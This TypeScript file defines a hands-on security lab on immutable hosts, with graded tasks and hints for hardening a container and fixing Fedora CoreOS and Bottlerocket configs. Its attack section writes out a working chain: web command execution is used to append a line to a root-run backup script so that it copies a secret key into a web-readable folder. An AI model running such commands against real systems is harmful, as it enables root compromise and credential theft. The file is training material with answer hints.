import type { Lab } from '#lab';
import { messages } from './messages.ts';

export default {
  label: 'L1.5',
  title: { de: 'Unveränderlicher Host', en: 'Immutable Host' },
  summary: {
    de: 'Ein Server, an dem seit Jahren jeder herumschraubt, behält auch deine Hintertür. Du machst ihn unveränderlich und schreibst die Dateien, aus denen sein Nachfolger entsteht: für Fedora CoreOS und für Bottlerocket.',
    en: 'A server that everybody has tinkered with for years keeps your back door, too. You make it immutable, and write the files that its successor is built from: for Fedora CoreOS and for Bottlerocket.',
  },
  minutes: 45,
  difficulty: 2,
  needs: [],
  checkLimitSeconds: 40,
  attack: {
    title: {
      de: 'Verstecke etwas in der Sicherung von petbox und hol dir damit den Schlüssel von root',
      en: 'Hide something in petbox’s backup job and let it bring you root’s key',
    },
    points: 20,
    hints: [
      {
        de: 'Die Seite auf Port 8090 führt als www Befehle aus: `curl -G http://dockerhost:8090/cgi-bin/run --data-urlencode "cmd=id"`. Was läuft in petbox alle zwei Sekunden als root, und wem gehört es?',
        en: 'The page on port 8090 runs commands as www: `curl -G http://dockerhost:8090/cgi-bin/run --data-urlencode "cmd=id"`. What runs in petbox every two seconds as root, and who owns it?',
      },
      {
        de: '/usr/local/bin/backup.sh gehört www. Hänge eine Zeile an, die /run/secrets/backup.key nach /var/spool/backup kopiert und für alle lesbar macht; die Ablage siehst du unter http://dockerhost:8090/www/spool/.',
        en: '/usr/local/bin/backup.sh belongs to www. Append a line that copies /run/secrets/backup.key to /var/spool/backup and makes it readable; that folder is served at http://dockerhost:8090/www/spool/.',
      },
      {
        de: '`curl -G http://dockerhost:8090/cgi-bin/run --data-urlencode "cmd=echo \'cat /run/secrets/backup.key > /var/spool/backup/loot; chmod 644 /var/spool/backup/loot\' >> /usr/local/bin/backup.sh"`, drei Sekunden warten, dann `curl http://dockerhost:8090/www/spool/loot`.',
        en: '`curl -G http://dockerhost:8090/cgi-bin/run --data-urlencode "cmd=echo \'cat /run/secrets/backup.key > /var/spool/backup/loot; chmod 644 /var/spool/backup/loot\' >> /usr/local/bin/backup.sh"`, wait three seconds, then `curl http://dockerhost:8090/www/spool/loot`.',
      },
    ],
  },
  tasks: {
    'pet-immutable': {
      title: { de: 'petbox läuft im Original, und niemand kann daran etwas ändern', en: 'petbox runs as it was delivered, and nobody can change it' },
      points: 25,
      hints: [
        {
          de: 'Ein Neustart behält, was im Container geändert wurde; erst ein neuer Container beginnt wieder mit dem Image. `docker diff petbox` zeigt, was sich angesammelt hat.',
          en: 'A restart keeps what was changed in the container; only a new container begins with the image again. `docker diff petbox` shows what has piled up.',
        },
        {
          de: '`--read-only` macht das Wurzelverzeichnis nur lesbar. Was die Sicherung schreiben muss, braucht einen eigenen Platz: /var/spool/backup.',
          en: '`--read-only` makes the root directory read-only. What the job must write needs a place of its own: /var/spool/backup.',
        },
        {
          de: '`docker rm -f petbox`, dann der Befehl aus /srv/petbox/run.sh mit `--read-only --tmpfs /var/spool/backup`.',
          en: '`docker rm -f petbox`, then the command from /srv/petbox/run.sh with `--read-only --tmpfs /var/spool/backup`.',
        },
      ],
    },
    'ignition-valid': {
      title: {
        de: 'Fedora CoreOS: ignition-validate nimmt config.ign ohne Warnung an',
        en: 'Fedora CoreOS: ignition-validate takes config.ign without a warning',
      },
      points: 20,
      hints: [
        {
          de: '`ignition-validate /root/host/config.ign` nennt Zeile und Spalte. Es hört beim ersten groben Fehler auf, also frag es nach jeder Änderung wieder.',
          en: '`ignition-validate /root/host/config.ign` names line and column. It stops at the first gross mistake, so ask again after each change.',
        },
        {
          de: 'JSON kennt keine oktalen Zahlen: 0644 ist 420. Pfade beginnen mit einem Schrägstrich. „Unused key“ endet mit Erfolg, und der Schlüssel tut nichts: systemd.unit gibt es nicht.',
          en: 'JSON has no octal numbers: 0644 is 420. Paths begin with a slash. “Unused key” ends in success, and the key does nothing: there is no systemd.unit.',
        },
        {
          de: 'Ersetze beide `"0644"` durch `420`, `etc/docker/daemon.json` durch `/etc/docker/daemon.json`, und streiche die Zeile mit `"unit"`.',
          en: 'Replace both `"0644"` by `420`, `etc/docker/daemon.json` by `/etc/docker/daemon.json`, and delete the line with `"unit"`.',
        },
      ],
    },
    'coreos-secure': {
      title: {
        de: 'Fedora CoreOS: kein Passwort, keine offene Docker-API, Updates von selbst, Schutz an',
        en: 'Fedora CoreOS: no password, no open Docker API, updates by themselves, protections on',
      },
      points: 30,
      hints: [
        {
          de: '`open-ignition config.ign | jq .files` zeigt, was in den data:-URLs steckt. Die Liste, die es zu erfüllen gilt, steht in README.',
          en: '`open-ignition config.ign | jq .files` shows what is in the data: URLs. The list to be met is in README.',
        },
        {
          de: 'Weg: passwordHash, kernelArguments, das Drop-in mit tcp://, `enabled = false` für Zincati. Dafür: sshAuthorizedKeys für core, eine Strategie in /etc/zincati/config.d/*.toml, eine daemon.json, die JSON ist und userns-remap oder no-new-privileges setzt.',
          en: 'To go: passwordHash, kernelArguments, the drop-in with tcp://, `enabled = false` for Zincati. Instead: sshAuthorizedKeys for core, a strategy in /etc/zincati/config.d/*.toml, a daemon.json that is JSON and sets userns-remap or no-new-privileges.',
        },
        {
          de: 'daemon.json: `"source": "data:,%7B%22userns-remap%22%3A%22default%22%2C%22no-new-privileges%22%3Atrue%7D"`. Zincati: `"path": "/etc/zincati/config.d/55-updates-strategy.toml"` mit `"source": "data:,%5Bupdates%5D%0Astrategy%20%3D%20%22immediate%22%0A"`. Benutzer: `{ "name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAA… ops@harbour"] }` mit dem Schlüssel aus legacy-user-data.yaml.',
          en: 'daemon.json: `"source": "data:,%7B%22userns-remap%22%3A%22default%22%2C%22no-new-privileges%22%3Atrue%7D"`. Zincati: `"path": "/etc/zincati/config.d/55-updates-strategy.toml"` with `"source": "data:,%5Bupdates%5D%0Astrategy%20%3D%20%22immediate%22%0A"`. User: `{ "name": "core", "sshAuthorizedKeys": ["ssh-ed25519 AAAA… ops@harbour"] }` with the key from legacy-user-data.yaml.',
        },
      ],
    },
    'bottlerocket-secure': {
      title: {
        de: 'Bottlerocket: gültige Einstellungen, keine Hintertür, keine Bremse für Updates',
        en: 'Bottlerocket: valid settings, no back door, nothing that holds updates back',
      },
      points: 25,
      hints: [
        {
          de: '`check-user-data /root/host/user-data.toml` findet, was Bottlerocket gar nicht annähme. Ein einziger unbekannter Schlüssel, und die ganze Datei ist abgelehnt.',
          en: '`check-user-data /root/host/user-data.toml` finds what Bottlerocket would not even take. One unknown key, and the whole file is refused.',
        },
        {
          de: 'Die Einstellung heißt lockdown, und sie soll integrity oder confidentiality sein. superpowered heißt: root auf dem Host.',
          en: 'The setting is called lockdown, and it should be integrity or confidentiality. superpowered means: root on the host.',
        },
        {
          de: '`[settings.kernel]` `lockdown = "integrity"`, `[settings.host-containers.admin]` `enabled = false`, `[settings.ecs]` `cluster = "harbour"`; version-lock, debug und allow-privileged-containers fallen weg.',
          en: '`[settings.kernel]` `lockdown = "integrity"`, `[settings.host-containers.admin]` `enabled = false`, `[settings.ecs]` `cluster = "harbour"`; version-lock, debug and allow-privileged-containers go.',
        },
      ],
    },
  },
  messages,
} as const satisfies Lab;
